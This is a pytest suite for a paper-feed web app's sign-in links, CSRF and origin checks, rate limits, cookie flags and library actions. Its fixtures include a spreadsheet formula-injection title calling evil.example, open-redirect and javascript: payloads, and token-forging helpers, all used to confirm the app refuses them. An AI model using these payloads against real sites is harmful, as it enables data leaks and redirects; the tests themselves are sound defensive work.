"""Accounts, sign-in links, the library and the actions on papers, in process (Starlette's
TestClient) over a real SQLite store, with sign-in links mailed by the real `SMTPMailer` to a
real SMTP server (aiosmtpd) and read back from the message.

The security properties come first (cross-site forms, form tokens, one-time expiring links,
answers that do not tell addresses apart, rate limits, cookie flags), then the library and how
the trending ranking reacts to what readers do. Each test gets its own store and a clock it
can move; the seeded store ranks the recorded Hugging Face day (2024-10-25) and the hostile
paper (2024-10-24) in its week window.
"""

from __future__ import annotations

import base64
import csv
import html
import io
import logging
import re
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass
from datetime import UTC, date, datetime
from email.message import EmailMessage
from pathlib import Path
from typing import Any
from urllib.parse import quote

import bibtexparser
import httpx
import pytest
from starlette.applications import Starlette
from starlette.testclient import TestClient

from paperfeed.cli import main
from paperfeed.digest.mailer import OutboxMailer, SMTPMailer
from paperfeed.digest.sender import CLICK_TTL_S
from paperfeed.ingest.files import import_file
from paperfeed.models import Paper
from paperfeed.search.engine import SearchEngine
from paperfeed.store import Store, open_store
from paperfeed.tokens import sign
from paperfeed.users.library import COUNT_ONCE_S
from paperfeed.web.app import create_app
from tests.conftest import SEED
from tests.mail import SMTPCatcher, login_forms, smtp_server
from tests.web.conftest import HF_IDS, HOSTILE, add_hf_day

__all__ = ["smtp_server"]  # the fixture, imported for pytest

START = datetime(2024, 10, 27, 12, tzinfo=UTC).timestamp()  # after the newest day's end
TODAY = date(2024, 10, 27)
SENDER = "paperfeed <paperfeed@localhost>"
EVIL = "https://evil.example"
BROWSER = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/126.0.0.0 Safari/537.36"
)
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
PAPER = HF_IDS[0]  # 2410.17243, in the week window, with an arXiv id
FORMULA = Paper(
    id="2402.00001",
    arxiv_id="2402.00001",
    title='=HYPERLINK("https://evil.example/?leak","Click me")',
    abstract="A title a spreadsheet would run as a formula.",
    authors=("Ann Example",),
    categories=("cs.CR",),
)  # undated: it stays out of the trending windows


class Clock:
    """A clock that stands still until the test moves it."""

    def __init__(self, now: float) -> None:
        self.now = now

    def __call__(self) -> float:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += seconds


@dataclass
class Web:
    app: Starlette
    client: TestClient
    clock: Clock
    smtp: SMTPCatcher
    store: Store
    db: Path

    def new_client(self, ip: str = "198.51.100.2", **options: Any) -> TestClient:
        """Another browser, from another address, with its own cookies."""
        return TestClient(self.app, client=(ip, 50000), **options)


def make_app(store: Store, db: Path, smtp: SMTPCatcher, clock: Clock,
             base_url: str = "http://testserver", login: tuple[str, str] = ("", "")
             ) -> Starlette:  # fmt: skip
    mailer = SMTPMailer(smtp.host, smtp.port, "none", *login, SENDER, timeout_s=5)
    return create_app(lambda: SearchEngine(store, str(db) + "-index"), mailer=mailer,
                      base_url=base_url, clock=clock, today=lambda: TODAY)  # fmt: skip


@pytest.fixture
def web(tmp_path: Path, smtp_server: SMTPCatcher) -> Iterator[Web]:
    db = tmp_path / "accounts.db"
    store = open_store(str(db))
    import_file(store, SEED)
    store.upsert_papers([HOSTILE, FORMULA])
    add_hf_day(store)
    clock = Clock(START)
    app = make_app(store, db, smtp_server, clock)
    with TestClient(app) as client:
        yield Web(app, client, clock, smtp_server, store, db)
    store.close()


# -- helpers ------------------------------------------------------------------------------------


def csrf_in(html: str) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert found, "the page has no csrf_token field"
    return found.group(1)


def ask_link(c: TestClient, email: str, *, as_json: bool = False, next_path: str | None = None
             ) -> httpx.Response:  # fmt: skip
    """What the sign-in form does: open it, then post the address with the form's token.
    With `next_path`, the page is opened as `/signin?next=...` and `next_path` itself is posted
    (as a forged form could; the page's own field is checked by `next_field`)."""
    page = c.get("/signin", params={} if next_path is None else {"next": next_path}).text
    form = {"email": email, "csrf_token": csrf_in(page)}
    if next_path is not None:
        form["next"] = next_path
    headers = {"Accept": "application/json"} if as_json else {}
    return c.post("/signin", data=form, headers=headers)


def next_field(c: TestClient, next_path: str) -> str:
    """The hidden `next` field of the sign-in form opened as `/signin?next=next_path`."""
    found = re.search(
        r'name="next" value="([^"]*)"', c.get(f"/signin?next={quote(next_path)}").text
    )
    assert found, "the sign-in form has no next field"
    return html.unescape(found.group(1))


def text_of(message: EmailMessage) -> str:
    body = message.get_body(("plain",))
    assert isinstance(body, EmailMessage)
    text: str = body.get_content()
    return text


def link_in(message: EmailMessage) -> str:
    found = re.search(r"https?://\S+/signin/link\?token=\S+", text_of(message))
    assert found, text_of(message)
    return found.group(0)


def token_in(message: EmailMessage) -> str:
    return link_in(message).partition("?token=")[2]


def mails_to(smtp: SMTPCatcher, email: str) -> list[EmailMessage]:
    return [m for m in smtp.messages if m["To"] == email]


def use_link(c: TestClient, token: str) -> httpx.Response:
    """What a reader does with the mailed link: open the page, press "Sign in"."""
    page = c.get("/signin/link", params={"token": token})
    assert page.status_code == 200
    form = {"token": token, "csrf_token": csrf_in(page.text)}
    return c.post("/signin/link", data=form, follow_redirects=False)


def sign_in(web: Web, c: TestClient, email: str) -> str:
    """Signs `c` in as `email` through a mailed link; returns the session's form token."""
    sent = len(mails_to(web.smtp, email))
    assert ask_link(c, email).status_code == 200
    web.smtp.wait_for(1)
    message = mails_to(web.smtp, email)[sent]
    answer = use_link(c, token_in(message))
    assert answer.status_code == 303, answer.text
    assert "pf_session" in c.cookies
    return csrf_in(c.get("/account").text)


def cookie(response: httpx.Response, name: str) -> dict[str, str] | None:
    """The attributes of the Set-Cookie for `name` (lower-cased names), or None."""
    for header in response.headers.get_list("set-cookie"):
        first, *attrs = (part.strip() for part in header.split(";"))
        key, _, value = first.partition("=")
        if key == name:
            found = {"": value}
            for attr in attrs:
                k, _, v = attr.partition("=")
                found[k.lower()] = v
            return found
    return None


def ranking(c: TestClient, window: str = "week") -> list[dict[str, Any]]:
    answer = c.get("/trending.json", params={"window": window})
    assert answer.status_code == 200, answer.text
    papers: list[dict[str, Any]] = answer.json()["papers"]
    return papers


def trend(c: TestClient, ref: str, window: str = "week") -> dict[str, Any]:
    """The paper's trending score and parts in a window."""
    found: dict[str, Any] = {p["id"]: p["trending"] for p in ranking(c, window)}[ref]
    return found


def library(c: TestClient, **params: str) -> dict[str, Any]:
    answer = c.get("/library.json", params=params)
    assert answer.status_code == 200, answer.text
    view: dict[str, Any] = answer.json()
    return view


def ids(view: dict[str, Any]) -> list[str]:
    return [p["id"] for p in view["papers"]]


def act(c: TestClient, token: str, ref: str, kind: str, **form: str) -> httpx.Response:
    """A plain form post of an action button (answers with a redirect)."""
    return c.post(f"/paper/{ref}/{kind}", data={"csrf_token": token, **form},
                  follow_redirects=False)  # fmt: skip


def act_json(c: TestClient, token: str, ref: str, kind: str, undo: bool = False
             ) -> httpx.Response:  # fmt: skip
    """What the browser's fetch call sends: the token in the header, a JSON body."""
    return c.post(f"/paper/{ref}/{kind}", json={"undo": undo}, headers={"X-CSRF-Token": token})


def emails_in(db: Path) -> set[str]:
    with closing(sqlite3.connect(f"file:{db}?mode=ro", uri=True)) as conn:
        return {row[0] for row in conn.execute("SELECT email FROM users")}


def assert_error_json(answer: httpx.Response, status: int, starts: str) -> None:
    assert answer.status_code == status, answer.text
    assert answer.headers["content-type"].startswith("application/json")
    error = answer.json()["error"]
    assert error["status"] == status and error["message"].startswith(starts), error


# -- cross-site requests and form tokens ----------------------------------------------------------

STATE_CHANGES = [
    (f"/paper/{PAPER}/upvote", {}),
    ("/signin", {"email": "victim@example.org"}),
    ("/signout", {}),
    ("/account/delete", {"confirm": "yes"}),
    ("/library/import", {"ids": PAPER}),
]


def assert_unchanged(web: Web, c: TestClient, token: str) -> None:
    """Still signed in, with the same form token, an empty library, one account, one mail."""
    assert csrf_in(c.get("/account").text) == token
    assert ids(library(c)) == [] and ids(library(c, kind="upvote")) == []
    assert emails_in(web.db) == {"ann@example.org"}
    assert [m["To"] for m in web.smtp.messages] == ["ann@example.org"]
    assert "upvote" not in trend(c, PAPER)["parts"]


@pytest.mark.parametrize(("path", "form"), STATE_CHANGES)
def test_a_cross_site_post_without_the_token_is_refused(
    web: Web, path: str, form: dict[str, str]
) -> None:
    token = sign_in(web, web.client, "ann@example.org")
    cross_site = {"Origin": EVIL, "Sec-Fetch-Site": "cross-site"}
    for headers in (cross_site, {}):  # from another site, and with no token at all
        answer = web.client.post(path, data=form, headers=headers, follow_redirects=False)
        assert answer.status_code == 403, (headers, answer.text)
        assert "site" in answer.text and "text/html" in answer.headers["content-type"]
        assert cookie(answer, "pf_session") is None
    assert_unchanged(web, web.client, token)


@pytest.mark.parametrize(("path", "form"), STATE_CHANGES)
@pytest.mark.parametrize(
    "headers",
    [{"Origin": EVIL}, {"Origin": "null"}, {"Origin": "http://testserver.evil.example"},
     {"Sec-Fetch-Site": "cross-site"}, {"Sec-Fetch-Site": "same-site"}],
)  # fmt: skip
def test_a_valid_token_from_another_origin_is_refused(
    web: Web, path: str, form: dict[str, str], headers: dict[str, str]
) -> None:
    token = sign_in(web, web.client, "ann@example.org")
    answer = web.client.post(path, data={**form, "csrf_token": token}, headers=headers,
                             follow_redirects=False)  # fmt: skip
    assert answer.status_code == 403, answer.text
    assert "This form was sent from another site" in answer.text
    assert_unchanged(web, web.client, token)


def test_the_same_post_from_our_own_origin_is_accepted(web: Web) -> None:
    token = sign_in(web, web.client, "ann@example.org")
    same = {"Origin": "http://testserver", "Sec-Fetch-Site": "same-origin"}
    answer = web.client.post(f"/paper/{PAPER}/upvote", data={"csrf_token": token}, headers=same,
                             follow_redirects=False)  # fmt: skip
    assert answer.status_code == 303 and answer.headers["location"] == f"/paper/{PAPER}"
    assert ids(library(web.client, kind="upvote")) == [PAPER]


def test_a_token_from_another_session_is_refused(web: Web) -> None:
    ann = sign_in(web, web.client, "ann@example.org")
    bob_client = web.new_client()
    bob = sign_in(web, bob_client, "bob@example.org")
    assert ann != bob
    answer = act(bob_client, ann, PAPER, "upvote")
    assert answer.status_code == 403 and "did not come from this site" in answer.text
    assert_error_json(act_json(bob_client, ann, PAPER, "upvote"), 403, "This form has expired")
    assert ids(library(bob_client, kind="upvote")) == [] == ids(library(web.client, kind="upvote"))
    # an anonymous visitor's token belongs to its own pf_csrf cookie, not to anyone else's
    stranger = web.new_client("198.51.100.3")
    mine = csrf_in(stranger.get("/signin").text)
    other = web.new_client("198.51.100.4")
    other.get("/signin")
    answer = other.post("/signin", data={"email": "carol@example.org", "csrf_token": mine})
    assert answer.status_code == 403
    assert mails_to(web.smtp, "carol@example.org") == []
    # and a session's token stops working once the session is gone
    assert act(bob_client, bob, PAPER, "upvote").status_code == 303
    assert bob_client.post("/signout", data={"csrf_token": bob}).status_code == 200
    assert act(bob_client, bob, PAPER, "hide").status_code == 403


def test_get_on_action_urls_changes_nothing(web: Web) -> None:
    token = sign_in(web, web.client, "ann@example.org")
    before = trend(web.client, HOSTILE.id)
    for kind in ("upvote", "save", "hide"):
        answer = web.client.get(f"/paper/{HOSTILE.id}/{kind}", headers={"User-Agent": BROWSER})
        assert answer.status_code in (404, 405), (kind, answer.status_code)
    for path in ("/signout", "/account/delete", "/library/import"):
        assert web.client.get(path).status_code == 405, path
    assert web.client.get("/signin/link").status_code == 200  # a page, no sign-in
    assert csrf_in(web.client.get("/account").text) == token  # still signed in
    for kind in ("save", "upvote", "hide"):
        assert ids(library(web.client, kind=kind)) == []
    assert trend(web.client, HOSTILE.id) == before
    assert emails_in(web.db) == {"ann@example.org"}


# -- sign-in links --------------------------------------------------------------------------------


def test_sign_in_by_mailed_link(web: Web) -> None:
    answer = ask_link(web.client, " Ann@Example.ORG ")
    assert answer.status_code == 200 and "Check your inbox" in answer.text
    [message] = web.smtp.wait_for(1)
    [received] = web.smtp.received
    assert received.rcpt_tos == ("ann@example.org",) and received.mail_from == "paperfeed@localhost"
    assert message["Subject"] == "Your paperfeed sign-in link" and message["From"] == SENDER
    link = link_in(message)
    assert link.startswith("http://testserver/signin/link?token=")
    assert "within 15 minutes" in text_of(message)
    page = web.client.get(link)
    assert page.status_code == 200 and 'id="confirm-signin"' in page.text
    answer = use_link(web.client, token_in(message))
    assert answer.status_code == 303 and answer.headers["location"] == "/library"
    account = web.client.get("/account")
    assert account.status_code == 200 and "ann@example.org" in account.text
    assert library(web.client)["papers"] == []
    assert emails_in(web.db) == {"ann@example.org"}


@pytest.mark.parametrize(
    ("next_path", "lands_on"),
    [(f"/paper/{PAPER}", f"/paper/{PAPER}"), ("/search?q=dropout&mode=hybrid",
      "/search?q=dropout&mode=hybrid"), ("https://evil.example/", "/library"),
     ("//evil.example/x", "/library"), ("/\\evil.example", "/library"),
     ("/\t/evil.example", "/library"), ("/\n/evil.example", "/library"),
     ("/x\x00y", "/library"), ("javascript:alert(1)", "/library"), ("", "/library")],
)  # fmt: skip
def test_the_link_leads_back_where_sign_in_was_asked_but_only_to_our_pages(
    web: Web, next_path: str, lands_on: str
) -> None:
    assert next_field(web.client, next_path) == lands_on
    ask_link(web.client, "ann@example.org", next_path=next_path)
    [message] = web.smtp.wait_for(1)
    assert "next" not in link_in(message)  # where to go is signed into the token
    answer = use_link(web.client, token_in(message))
    assert answer.status_code == 303 and answer.headers["location"] == lands_on


def test_a_next_field_posted_with_the_link_does_not_move_where_it_leads(web: Web) -> None:
    ask_link(web.client, "ann@example.org", next_path=f"/paper/{PAPER}")
    [message] = web.smtp.wait_for(1)
    token = token_in(message)
    page = web.client.get("/signin/link", params={"token": token})
    form = {"token": token, "csrf_token": csrf_in(page.text), "next": "/account"}
    answer = web.client.post("/signin/link", data=form, follow_redirects=False)
    assert answer.status_code == 303 and answer.headers["location"] == f"/paper/{PAPER}"


def test_signing_in_from_a_paper_page_lands_back_on_the_paper(web: Web) -> None:
    c = web.client
    found = re.search(r'class="signin-to-act" href="([^"]+)"', c.get(f"/paper/{PAPER}").text)
    assert found, "a signed-out paper page has no sign-in link"
    signin = html.unescape(found.group(1))
    assert signin == f"/signin?next=/paper/{PAPER}"
    assert next_field(c, f"/paper/{PAPER}") == f"/paper/{PAPER}"
    ask_link(c, "ann@example.org", next_path=f"/paper/{PAPER}")
    [message] = web.smtp.wait_for(1)
    answer = use_link(c, token_in(message))
    assert answer.status_code == 303 and answer.headers["location"] == f"/paper/{PAPER}"


def test_opening_the_link_does_not_sign_in_only_the_button_does(web: Web) -> None:
    ask_link(web.client, "ann@example.org")
    [message] = web.smtp.wait_for(1)
    scanner = web.new_client()  # a mail scanner that follows every link
    for _ in range(2):
        page = scanner.get(link_in(message))
        assert page.status_code == 200 and cookie(page, "pf_session") is None
        assert "pf_session" not in scanner.cookies
    assert_error_json(scanner.get("/library.json"), 401, "Sign in first")
    assert emails_in(web.db) == set()
    # the link was not spent by being opened
    answer = use_link(web.client, token_in(message))
    assert answer.status_code == 303 and cookie(answer, "pf_session")


def test_a_used_link_is_refused(web: Web) -> None:
    ask_link(web.client, "ann@example.org")
    [message] = web.smtp.wait_for(1)
    token = token_in(message)
    assert use_link(web.client, token).status_code == 303
    again = web.new_client()
    answer = use_link(again, token)
    assert answer.status_code == 400 and "text/html" in answer.headers["content-type"]
    assert "This sign-in link was used already; ask for a new one." in answer.text
    assert cookie(answer, "pf_session") is None and "pf_session" not in again.cookies
    assert_error_json(again.get("/library.json"), 401, "Sign in first")
    # the same client that used it cannot make a second session from it either
    answer = use_link(web.client, token)
    assert answer.status_code == 400 and cookie(answer, "pf_session") is None


def test_an_expired_link_is_refused(web: Web) -> None:
    ask_link(web.client, "ann@example.org")
    ask_link(web.client, "bob@example.org")
    web.smtp.wait_for(2)
    web.clock.advance(14 * 60 + 59)  # still within 15 minutes
    assert use_link(web.new_client(), token_in(mails_to(web.smtp, "bob@example.org")[0])
                    ).status_code == 303  # fmt: skip
    web.clock.advance(2)  # 15 minutes and 1 second
    late = web.new_client("198.51.100.3")
    answer = use_link(late, token_in(mails_to(web.smtp, "ann@example.org")[0]))
    assert answer.status_code == 400 and "This sign-in link has expired." in answer.text
    assert cookie(answer, "pf_session") is None
    assert emails_in(web.db) == {"bob@example.org"}


def _tamper(token: str, how: str, web: Web) -> str:
    body, _, mac = token.partition(".")
    if how == "mac":
        return f"{body}.{('A' if mac[0] != 'A' else 'B')}{mac[1:]}"
    if how == "body":  # another address, the old signature
        raw = base64.urlsafe_b64decode(body + "=" * (-len(body) % 4))
        other = raw.replace(b"ann@example.org", b"eve@example.org")
        return base64.urlsafe_b64encode(other).rstrip(b"=").decode() + "." + mac
    if how == "cut":
        return token[: len(token) - 5]
    if how == "no-mac":
        return body
    if how == "other-key":
        return sign(b"k" * 32, "signin", {"m": "eve@example.org", "n": "x" * 16}, START + 600)
    if how == "other-purpose":  # a genuine token of ours, made for digest clicks
        secret = web.store.get_secret("web")
        return sign(secret, "click", {"m": "eve@example.org", "n": "y" * 16}, START + 600)
    raise AssertionError(how)


@pytest.mark.parametrize("how", ["mac", "body", "cut", "no-mac", "other-key", "other-purpose"])
def test_a_forged_or_modified_link_is_refused(web: Web, how: str) -> None:
    ask_link(web.client, "ann@example.org")
    [message] = web.smtp.wait_for(1)
    forged = _tamper(token_in(message), how, web)
    answer = use_link(web.client, forged)
    assert answer.status_code == 400 and "This sign-in link is not valid" in answer.text
    assert cookie(answer, "pf_session") is None
    assert emails_in(web.db) == set()
    # the genuine link still works
    assert use_link(web.client, token_in(message)).status_code == 303


def test_an_unknown_address_gets_the_same_answer_as_a_known_one(web: Web) -> None:
    known, unknown = "known@example.org", "stranger@example.org"
    sign_in(web, web.client, known)
    assert emails_in(web.db) == {known}
    fresh = web.new_client("203.0.113.5")
    fresh.get("/signin")  # its anonymous cookie first, so both answers start alike
    first, second = ask_link(fresh, known), ask_link(fresh, unknown)
    assert first.status_code == second.status_code == 200
    assert first.text.replace(known, "ADDRESS") == second.text.replace(unknown, "ADDRESS")
    assert sorted(first.headers.keys()) == sorted(second.headers.keys())
    assert cookie(first, "pf_session") is None and cookie(second, "pf_session") is None
    as_json = [ask_link(fresh, e, as_json=True).json() for e in (known, unknown)]
    assert (
        as_json[0]
        == as_json[1]
        == {"sent": True, "message": "Check your inbox for a sign-in link."}
    )
    # both get a mail, alike but for the address and the token
    to_known, to_unknown = mails_to(web.smtp, known)[-1], mails_to(web.smtp, unknown)[-1]
    assert len(mails_to(web.smtp, unknown)) == 2
    assert to_known["Subject"] == to_unknown["Subject"]
    texts = [text_of(m).replace(link_in(m), "LINK") for m in (to_known, to_unknown)]
    assert texts[0] == texts[1]
    # the stranger has no account until the link is used
    assert emails_in(web.db) == {known}
    assert use_link(web.new_client("203.0.113.6"), token_in(to_unknown)).status_code == 303
    assert emails_in(web.db) == {known, unknown}


def test_the_sixth_link_for_an_address_in_an_hour_is_silently_not_sent(web: Web) -> None:
    address = "ann@example.org"
    spellings = [address, "Ann@Example.org", " ANN@EXAMPLE.ORG", address, address, address]
    answers = [ask_link(web.client, spelled) for spelled in spellings]
    assert {a.status_code for a in answers} == {200}
    assert len({a.text for a in answers}) == 1  # the page echoes the address normalized
    assert len({tuple(sorted(a.headers.keys())) for a in answers}) == 1
    assert len(mails_to(web.smtp, address)) == 5
    assert ask_link(web.client, "bob@example.org").status_code == 200  # others still get theirs
    assert len(mails_to(web.smtp, "bob@example.org")) == 1
    web.clock.advance(3601)
    assert ask_link(web.client, address).status_code == 200
    assert len(mails_to(web.smtp, address)) == 6


def test_more_than_20_links_an_hour_from_one_client_get_429(web: Web) -> None:
    for n in range(20):
        assert ask_link(web.client, f"reader{n}@example.org").status_code == 200, n
    assert len(web.smtp.messages) == 20
    answer = ask_link(web.client, "reader20@example.org")
    assert answer.status_code == 429 and "text/html" in answer.headers["content-type"]
    assert "Too many sign-in requests from your network; try again in an hour." in answer.text
    assert_error_json(
        ask_link(web.client, "x@example.org", as_json=True), 429, "Too many sign-in requests"
    )
    assert len(web.smtp.messages) == 20
    assert ask_link(web.new_client(), "reader20@example.org").status_code == 200  # another client
    web.clock.advance(3601)
    assert ask_link(web.client, "reader21@example.org").status_code == 200


def test_a_bad_address_gets_a_sentence(web: Web) -> None:
    bad_ones = ("not-an-address", "a@b@c", "ann@example..org", "<x>@example.org", "",
                # one that reaches another inbox, or another key for the same one
                "g0:victim@example.org", "Victim <victim@example.org>", "victim@example.org.",
                "vic\x01tim@example.org", "victim@localhost")  # fmt: skip
    for bad in bad_ones:
        answer = ask_link(web.new_client("203.0.113.7"), bad)
        assert answer.status_code == 400, bad
        assert "That does not look like an email address" in answer.text
    assert web.smtp.messages == []


def test_variants_of_one_inbox_reach_its_daily_cap_unseen(web: Web) -> None:
    """Ten mails a day per inbox, whatever the spelling; the eleventh request is answered the
    same way, with no mail."""
    first = ask_link(web.client, "ann@example.org")
    answers = [first]
    for n in range(1, 11):
        if n % 5 == 0:
            web.clock.advance(3601)  # past the hourly limit per address
        answers.append(ask_link(web.new_client(f"198.51.100.{n}"), f"Ann+{n}@Example.org"))
    assert len(web.smtp.wait_for(10)) == 10
    assert {a.status_code for a in answers} == {200}
    last = answers[-1]
    assert last.text.replace("ann+10@example.org", "A") == first.text.replace("ann@example.org",
                                                                              "A")  # fmt: skip
    assert sorted(last.headers.keys()) == sorted(first.headers.keys())
    assert len(web.smtp.messages) == 10


def test_a_mail_server_echoing_the_login_shows_readers_one_sentence(
    web: Web, caplog: pytest.LogCaptureFixture
) -> None:
    """The 503 page and JSON say nothing of the server; the log says why, login redacted."""
    user, password = "mailer-7f3k@relay.example.net", "s3cret-Pa55"
    caplog.set_level(logging.WARNING)
    with SMTPCatcher(logins={user: password}) as smtp:
        smtp.fail_next(535, stage="auth", times=2, text="5.7.8 {auth} refused for {user}")
        app = make_app(web.store, web.db, smtp, web.clock, login=(user, password))
        with TestClient(app) as c:
            page, api = ask_link(c, "ann@example.org"), ask_link(c, "bob@example.org", as_json=True)
    assert page.status_code == 503 and "text/html" in page.headers["content-type"]
    sentence = "We could not send mail just now; try again later."
    assert sentence in page.text
    assert_error_json(api, 503, sentence)
    where = (smtp.host, f":{smtp.port}", "535", "AUTH", "PAPERFEED_SMTP")
    for answer in (page, api):
        assert [s for s in (*login_forms(user, password), *where) if s in answer.text] == []
    logged = caplog.text
    assert f"{smtp.host}:{smtp.port}" in logged and "535" in logged
    assert [s for s in login_forms(user, password) if s in logged] == []


# -- cookies and sessions ---------------------------------------------------------------------


def test_session_cookie_flags_over_http(web: Web) -> None:
    anon = web.client.get("/signin")
    csrf_cookie = cookie(anon, "pf_csrf")
    assert csrf_cookie is not None and "secure" not in csrf_cookie
    assert "httponly" in csrf_cookie and csrf_cookie["samesite"].lower() == "lax"
    ask_link(web.client, "ann@example.org")
    [message] = web.smtp.wait_for(1)
    answer = use_link(web.client, token_in(message))
    session = cookie(answer, "pf_session")
    assert session is not None and len(session[""]) >= 32
    assert "httponly" in session and session["samesite"].lower() == "lax"
    assert session["path"] == "/" and "secure" not in session
    assert int(session["max-age"]) == 30 * 86400


def test_session_cookie_is_secure_over_https(web: Web) -> None:
    app = make_app(web.store, web.db, web.smtp, web.clock, base_url="https://papers.example.org")
    with TestClient(app, base_url="https://testserver") as c:
        anon = cookie(c.get("/signin"), "pf_csrf")
        assert anon is not None and "secure" in anon
        ask_link(c, "ann@example.org")
        [message] = web.smtp.wait_for(1)
        assert link_in(message).startswith("https://papers.example.org/signin/link?token=")
        answer = use_link(c, token_in(message))
        session = cookie(answer, "pf_session")
        assert session is not None
        assert {"secure", "httponly"} <= session.keys() and session["samesite"].lower() == "lax"
        assert session["path"] == "/"
        # a form posted from the public address is ours too
        token = csrf_in(c.get("/account").text)
        same = {"Origin": "https://papers.example.org"}
        assert act(c, token, PAPER, "upvote").status_code == 303
        assert c.post(f"/paper/{PAPER}/save", data={"csrf_token": token}, headers=same,
                      follow_redirects=False).status_code == 303  # fmt: skip


def test_sign_out_ends_the_session(web: Web) -> None:
    token = sign_in(web, web.client, "ann@example.org")
    old = web.client.cookies["pf_session"]
    answer = web.client.post("/signout", data={"csrf_token": token}, follow_redirects=False)
    assert answer.status_code == 303 and answer.headers["location"] == "/"
    gone = cookie(answer, "pf_session")
    assert gone is not None and gone.get("max-age") == "0" and gone["path"] == "/"
    replay = web.new_client(cookies={"pf_session": old})
    assert_error_json(replay.get("/library.json"), 401, "Sign in first")
    answer = replay.get("/library", follow_redirects=False)
    assert answer.status_code == 303 and answer.headers["location"] == "/signin?next=/library"
    assert act(replay, token, PAPER, "upvote").status_code == 403  # its form token is dead too
    assert "Sign in</a>" in replay.get("/").text


def test_deleting_the_account_needs_confirming_and_empties_the_library(web: Web) -> None:
    token = sign_in(web, web.client, "ann@example.org")
    act(web.client, token, PAPER, "save", tags="reading")
    act(web.client, token, PAPER, "upvote")
    assert trend(web.client, PAPER)["parts"]["upvote"] == 3.0
    answer = web.client.post("/account/delete", data={"csrf_token": token})
    assert answer.status_code == 400
    assert "Tick the box to confirm that the account should be deleted." in answer.text
    assert ids(library(web.client)) == [PAPER]
    old = web.client.cookies["pf_session"]
    answer = web.client.post("/account/delete", data={"csrf_token": token, "confirm": "yes"})
    assert answer.status_code == 200 and "Account deleted" in answer.text
    gone = cookie(answer, "pf_session")
    assert gone is not None and gone.get("max-age") == "0"
    assert_error_json(web.new_client(cookies={"pf_session": old}).get("/library.json"), 401,
                      "Sign in first")  # fmt: skip
    assert emails_in(web.db) == set()
    web.clock.advance(601)  # by the next full recompute at the latest, the vote is gone
    assert "upvote" not in trend(web.client, PAPER)["parts"]
    fresh = web.new_client()
    sign_in(web, fresh, "ann@example.org")
    for kind in ("save", "upvote", "hide"):
        assert library(fresh, kind=kind)["papers"] == []
    assert library(fresh)["tags"] == []


def test_the_page_after_deleting_the_account_shows_nobody_signed_in(web: Web) -> None:
    token = sign_in(web, web.client, "ann@example.org")
    answer = web.client.post("/account/delete", data={"csrf_token": token, "confirm": "yes"})
    assert answer.status_code == 200 and "Account deleted" in answer.text
    assert "ann@example.org" not in answer.text, "the deleted reader is greeted in the header"
    assert 'action="/signout"' not in answer.text
    assert '<a href="/signin">Sign in</a>' in answer.text


def test_a_deleted_readers_votes_and_saves_leave_the_ranking_at_once(web: Web) -> None:
    """Like every other change of engagement (see users/library.py), a deletion re-scores
    the papers it touched at once rather than at the next full recompute."""
    before = trend(web.client, PAPER)
    token = sign_in(web, web.client, "ann@example.org")
    act(web.client, token, PAPER, "upvote")
    act(web.client, token, PAPER, "save")
    assert trend(web.client, PAPER)["parts"]["save"] == 4.0
    web.client.post("/account/delete", data={"csrf_token": token, "confirm": "yes"})
    assert trend(web.client, PAPER) == before


def test_a_session_lasts_30_days(web: Web) -> None:
    sign_in(web, web.client, "ann@example.org")
    web.clock.advance(30 * 86400 - 60)
    assert library(web.client)["papers"] == []
    web.clock.advance(61)
    assert_error_json(web.client.get("/library.json"), 401, "Sign in first")


# -- the library --------------------------------------------------------------------------------


def test_upvote_save_hide_and_undo_each(web: Web) -> None:
    token = sign_in(web, web.client, "ann@example.org")
    back = "/library?kind=upvote"
    answer = act(web.client, token, PAPER, "upvote", next=back)
    assert answer.status_code == 303 and answer.headers["location"] == back
    answer = act(web.client, token, PAPER, "save", tags="Graph Neural Nets, reading")
    assert answer.headers["location"] == f"/paper/{PAPER}"
    act(web.client, token, PAPER, "hide")
    for kind in ("upvote", "save", "hide"):
        assert ids(library(web.client, kind=kind)) == [PAPER], kind
    [saved] = library(web.client)["papers"]
    assert saved["tags"] == ["graph neural nets", "reading"] and saved["upvoted"] is True
    assert saved["mine"] == ["hide", "save", "upvote"] and saved["saved_at"].startswith(
        "2024-10-27T12:00:00")  # fmt: skip
    page = web.client.get(f"/paper/{PAPER}").text
    assert page.count('aria-pressed="true"') == 3 and 'name="undo" value="1"' in page
    assert "▲ Upvoted" in page and "★ Saved" in page and "Not interested ✕" in page
    for kind in ("upvote", "save", "hide"):
        assert act(web.client, token, PAPER, kind, undo="1").status_code == 303
        assert ids(library(web.client, kind=kind)) == [], kind
    assert library(web.client)["tags"] == []  # unsaving drops the paper's tags
    page = web.client.get(f"/paper/{PAPER}").text
    assert page.count('aria-pressed="false"') == 3 and "▲ Upvote<" in page


def test_actions_on_an_unknown_paper_or_kind_get_sentences(web: Web) -> None:
    token = sign_in(web, web.client, "ann@example.org")
    assert_error_json(act_json(web.client, token, "9999.99999", "upvote"), 404,
                      "No paper with id '9999.99999'.")  # fmt: skip
    assert_error_json(act_json(web.client, token, PAPER, "like"), 400, "Unknown action 'like'")
    answer = act(web.client, token, PAPER, "save", tags=", ".join(f"t{n}" for n in range(11)))
    assert answer.status_code == 400 and "at most 10 tags" in answer.text
    assert ids(library(web.client)) == []


def test_one_vote_per_account(web: Web) -> None:
    token = sign_in(web, web.client, "ann@example.org")
    before = trend(web.client, HOSTILE.id)
    for _ in range(2):
        assert act(web.client, token, HOSTILE.id, "upvote").status_code == 303
        assert act_json(web.client, token, HOSTILE.id, "upvote").json()["mine"] == ["upvote"]
    after = trend(web.client, HOSTILE.id)
    assert after["parts"]["upvote"] == 3.0
    assert after["score"] == pytest.approx(before["score"] + 3.0, abs=1e-3)
    other = web.new_client()
    bob = sign_in(web, other, "bob@example.org")
    act(other, bob, HOSTILE.id, "upvote")
    assert trend(web.client, HOSTILE.id)["parts"]["upvote"] == 6.0


def test_json_actions_take_the_token_from_the_header(web: Web) -> None:
    token = sign_in(web, web.client, "ann@example.org")
    answer = act_json(web.client, token, PAPER, "upvote")
    assert answer.status_code == 200 and answer.headers["content-type"] == "application/json"
